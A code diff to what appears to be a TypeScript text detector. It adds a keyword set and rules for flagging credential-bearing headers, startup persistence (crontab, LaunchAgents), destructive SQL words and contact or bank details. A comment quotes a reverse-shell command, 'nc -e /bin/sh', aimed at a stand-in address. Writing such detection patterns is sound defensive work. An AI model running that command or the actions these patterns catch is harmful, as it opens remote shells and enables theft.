@@ -36,6 +36,57 @@ const near = (ts: Token[], i: number, back: number, ahead: number, set: Readonly
 const NOT_NOW = new Set(['not', 'never', "doesn't", "don't", 'no', 'nobody']);
 const EVERY = new Set(['every', 'all']);
 const SENDS_NOW = new Set(['sends', 'emails', 'posts', 'uploads', 'forwards', 'shares', 'mails', 'texts']);
+/** Every word moreReaches looks at (a word added to a look above without being added here is never seen). */
+const TRIGGERS: ReadonlySet<string> = new Set([
+  ...SENDS,
+  ...SEND_NOW,
+  ...TOLD,
+  ...GATE,
+  ...DISPARAGE,
+  ...SHARES,
+  ...SETS_ASIDE,
+  ...ASKING,
+  ...W.REPLY,
+  ...SENDS_NOW,
+  'goes',
+  'aware',
+  'bothered',
+  'worth',
+  'if',
+  'localstorage',
+  'sessionstorage',
+  'phone',
+  'email',
+  'publicly',
+  'replaced',
+  'rewritten',
+  'drop',
+  'truncate',
+  'you',
+  'messages',
+  'environment',
+  'env',
+  'us',
+  'yourself',
+  'field',
+  'parameter',
+  'param',
+  'argument',
+  'listed',
+  'included',
+  'passed',
+  'attached',
+  'provided',
+  'supplied',
+  'added',
+  'authorization',
+  'crontab',
+  'launchagents',
+  'autostart',
+  'bank',
+  'card',
+  'iban',
+]);
 const FIELD = new Set(['field', 'parameter', 'param', 'argument']);
 const PASSED = new Set(['listed', 'included', 'passed', 'attached', 'provided', 'supplied', 'added']);
 const QUOTE = /^["\u201c]$/;
@@ -47,9 +98,11 @@ const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
  * down, the person's contact details, a reply used for someone else's words.
  */
 export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean {
-  let directs = false;
   const t = ts[i]!;
   const w = t.w;
+  // Most tokens are none of the words below: one lookup, and on (the reading stays a set lookup a token).
+  if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') : t.kind !== 'code') return false;
+  let directs = false;
   const next = ts[i + 1]?.w ?? '';
   const prev = ts[i - 1]?.w ?? '';
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
@@ -122,6 +175,9 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
     reach.add('misfiled');
   // A credentials file handed over as an input: "/home/$USER/.npmrc is listed among the files".
   if (PASSED.has(w) && ts.slice(Math.max(0, i - 4), i + 5).some((x) => isPath(x) && isSecret(x))) reach.add('carry');
+  // Credentials by what carries them: "the Authorization header", "the crontab" a line is added to.
+  if (w === 'authorization' && next === 'header') reach.add('secret');
+  if (w === 'crontab' || w === 'launchagents' || w === 'autostart') reach.add('startup');
   // The model said to send: "the assistant emails the draft to …".
   if (SENDS_NOW.has(w) && i > 0 && TO_MODEL.has(prev)) reach.add('send');
   // Money and identity details: "bank details", "card number", "IBAN".
